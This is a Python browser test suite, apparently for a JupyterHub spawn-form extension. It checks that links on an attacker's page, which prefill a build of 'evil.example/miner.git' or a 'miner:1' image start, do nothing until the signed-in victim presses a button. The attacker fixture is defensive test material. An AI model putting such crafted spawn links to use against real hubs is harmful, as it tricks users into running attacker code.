"""The one-click attack, end to end in headless Chromium: an attacker's links on another site.

A real hub (LocalProcessSpawner, base_url /jh/, the profile list of test_security_links_hub.py)
on 127.0.0.1, and an attacker's page on http://localhost:PORT (another site for the browser).
The victim, signed in, follows the attacker's links: a fragment link that asks to build a
repository and start ("hx-start=1"), and a query spawn with a typed image. Nothing is built,
no token is minted and no server starts until the victim presses the button; the page says
what would run. A link shared on the same hub still takes one press.
Not covered here: a build that completes and starts (tests/test_builds_browser.py, Docker tier).
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect

from .infra import axe
from .infra.browser import sign_in
from .infra.hub import DemoHub
from .test_profiles_hub import server_env
from .test_security_links_hub import CONFIG

pytestmark = pytest.mark.browser

IMAGE = "profile-option-custom--image"
SPAWN = "**/jh/hub/spawn"


HUB = {"base_url": "/jh/", "config": CONFIG}


@pytest.fixture(scope="module")
def hub(hub_factory, request):
    demo = hub_factory.shared(request, **HUB)
    demo.admin = demo.api(demo.token(demo.login("demo"), "demo"))
    return demo


@pytest.fixture(scope="module")
def attacker(hub):
    """The attacker's site: one page with the two links, on another host name than the hub."""
    build_link = hub.hub_url(
        f"spawn#profile=custom&{IMAGE}--build-provider=git"
        f"&{IMAGE}--build-repo={quote('https://evil.example/miner.git', safe='')}"
        f"&{IMAGE}--build-ref=main&hx-start=1"
    )
    query_link = hub.hub_url(f"spawn?profile=custom&{IMAGE}--unlisted-choice=miner:1")
    html = (
        f'<!doctype html><title>Free GPUs</title><a id="build" href="{build_link}">Build</a>'
        f'<a id="query" href="{query_link}">Start</a>'
    ).encode()

    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/"
    server.shutdown()


def watch(page) -> list[tuple[str, str]]:
    """Every build, token and spawn request the victim's browser sends, as (method, path)."""
    seen: list[tuple[str, str]] = []

    def note(request):
        path = urlsplit(request.url).path
        if (
            "/build/" in path
            or path.endswith("/tokens")
            or (request.method == "POST" and "/hub/spawn" in path)
        ):
            seen.append((request.method, path))

    page.context.on("request", note)
    return seen


def servers(hub, user: str) -> dict:
    return hub.admin.get(hub.hub_url(f"api/users/{user}"), timeout=10).json()["servers"]


def test_an_attackers_links_build_and_start_nothing_until_the_victim_presses(
    browser, hub, attacker
):
    page, errors = sign_in(browser, hub, "victim", SPAWN)
    seen = watch(page)
    try:
        # 1. the fragment link that used to build the attacker's repository and start it
        page.goto(attacker)
        page.click("#build")
        status = page.locator(".hx-build-status")
        expect(status).to_contain_text("A link filled this in: Git repository", timeout=30_000)
        expect(status).to_contain_text("https://evil.example/miner.git at main")
        expect(status).to_contain_text("Nothing has been built or started")
        go = page.get_by_role("button", name="Build and start")
        expect(go).to_be_focused()
        assert axe.violations(page) == []
        page.wait_for_timeout(1500)  # time enough for anything that would run on its own
        assert seen == []  # no token minted, no build asked for, no form posted
        assert servers(hub, "victim") == {}

        # 2. a query spawn with a typed image, from the attacker's site
        page.goto(attacker)
        page.click("#query")
        notice = page.locator(".hx-link-notice")
        expect(notice).to_contain_text(
            "A link asks to start this environment. Nothing has started."
        )
        expect(notice.locator("code")).to_have_text("miner:1")
        start = page.get_by_role("button", name="Start", exact=True)
        expect(start).to_be_focused()
        assert axe.violations(page) == []  # the notice reads well, in light mode at least
        page.wait_for_timeout(1500)
        assert seen == []
        assert servers(hub, "victim") == {}

        # the victim's own press on Start is what starts it
        start.click()
        page.wait_for_url("**/jh/user/victim/**", timeout=60_000)
        assert seen == [("POST", "/jh/hub/spawn")]
        assert server_env(hub, "victim")["HX_IMAGE"] == "miner:1"
        assert errors.page == []
    finally:
        page.goto(hub.hub_url("home"))
        page.context.close()
        if servers(hub, "victim"):
            hub.stop_server(hub.admin, "victim")


def test_a_link_shared_on_the_same_hub_takes_one_press(browser, hub: DemoHub):
    page, _ = sign_in(browser, hub, "sharer", SPAWN)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator("#profile-item-custom").check()
    page.select_option(f"#{IMAGE}", "unlisted-choice")
    page.fill(f"#{IMAGE}--unlisted-choice", "notebook:7")
    page.get_by_role("button", name="Copy start link").click()
    expect(page.locator(".hx-copy-link [aria-live]")).to_have_text(
        "Link copied: it fills in this form; one press of Start starts."
    )
    link = page.evaluate("() => navigator.clipboard.readText()")
    page.context.close()

    other, _ = sign_in(browser, hub, "colleague", SPAWN)
    seen = watch(other)
    try:
        other.goto(link)
        expect(other.locator(".hx-link-notice code")).to_have_text("notebook:7")
        start = other.get_by_role("button", name="Start", exact=True)
        expect(start).to_be_focused()
        assert servers(hub, "colleague") == {}
        start.click()  # the one press
        other.wait_for_url("**/jh/user/colleague/**", timeout=60_000)
        assert seen == [("POST", "/jh/hub/spawn")]
        assert server_env(hub, "colleague")["HX_IMAGE"] == "notebook:7"

        # a shared build link: filled in, and one press of "Build and start" asks for the
        # build with a token minted then, for the person who pressed
        other.goto(hub.hub_url("home"))
        hub.stop_server(hub.admin, "colleague")
        seen.clear()
        other.goto(
            hub.hub_url(
                f"spawn#profile=custom&{IMAGE}--build-provider=git"
                f"&{IMAGE}--build-repo=https%3A%2F%2Fgit.example%2Fr.git&{IMAGE}--build-ref=v1"
                "&hx-start=1"
            )
        )
        go = other.get_by_role("button", name="Build and start")
        expect(go).to_be_focused()
        assert seen == []
        with other.expect_request(lambda r: "/build/" in r.url, timeout=30_000):
            go.click()
        token_path = "/jh/hub/api/users/colleague/tokens"
        build_path = "/jh/services/hub-extensions/build/git/https%3A%2F%2Fgit.example%2Fr.git/v1"
        assert seen[:2] == [("POST", token_path), ("GET", build_path)]
        # a reload and another build reuse the tab's token: one token in the hub, the user's
        other.reload()
        build = other.get_by_role("button", name="Build", exact=True)
        expect(build).to_be_focused()
        with other.expect_request(lambda r: "/build/" in r.url, timeout=30_000):
            build.click()
        assert [m for m, path in seen if path == token_path] == ["POST"]
        notes = [t["note"] for t in hub.admin.get(
            hub.hub_url("api/users/colleague/tokens"), timeout=10
        ).json()["api_tokens"]]  # fmt: skip
        assert notes.count("hub-extensions spawn form (builds)") == 1
    finally:
        other.context.close()
        if servers(hub, "colleague"):
            hub.stop_server(hub.admin, "colleague")
